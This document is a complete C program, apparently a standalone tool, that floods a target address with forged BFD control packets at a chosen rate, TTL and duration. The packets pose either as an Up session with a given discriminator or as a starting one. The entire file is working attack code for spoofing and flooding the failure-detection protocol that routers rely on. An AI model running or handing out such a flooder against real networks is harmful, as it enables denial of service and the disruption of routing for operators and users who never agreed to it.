/*
 * Forged BFD packets at a steady rate: bfd-flood ADDRESS PORT TTL SECONDS RATE DISCRIMINATOR
 * A packet claims to be of a session that is up and has our discriminator DISCRIMINATOR; 0: of one that begins.
 * Prints how many it has sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, BYTES = 24 };

static double now(void) {
  struct timespec at;
  clock_gettime(CLOCK_MONOTONIC, &at);
  return at.tv_sec + at.tv_nsec / 1e9;
}

int main(int count, char **argument) {
  if (count != 7) return 2;
  int ttl = atoi(argument[3]);
  double seconds = atof(argument[4]), rate = atof(argument[5]);
  uint32_t discriminator = htonl(strtoul(argument[6], NULL, 10)), interval = htonl(300000);
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argument[2]))};
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  if (fd < 0 || inet_pton(AF_INET, argument[1], &to.sin_addr) != 1) return 1;
  setsockopt(fd, IPPROTO_IP, IP_TTL, &ttl, sizeof ttl);
  uint8_t packet[BYTES] = {0x20, discriminator == 0 ? 0x40 : 0xc0, 3, BYTES, 0, 0, 0, 9};
  memcpy(packet + 8, &discriminator, 4);
  memcpy(packet + 12, &interval, 4);
  memcpy(packet + 16, &interval, 4);
  struct iovec part = {packet, BYTES};
  struct mmsghdr messages[BATCH];
  memset(messages, 0, sizeof messages);
  for (int at = 0; at < BATCH; at++)
    messages[at].msg_hdr =
        (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &part, .msg_iovlen = 1};
  long sent = 0;
  for (double start = now(), passed = 0; passed < seconds; passed = now() - start) {
    if (sent > passed * rate) {
      nanosleep(&(struct timespec){0, 200000}, NULL);
      continue;
    }
    int left = sendmmsg(fd, messages, BATCH, 0);
    if (left > 0) sent += left;
  }
  printf("%ld\n", sent);
  return 0;
}
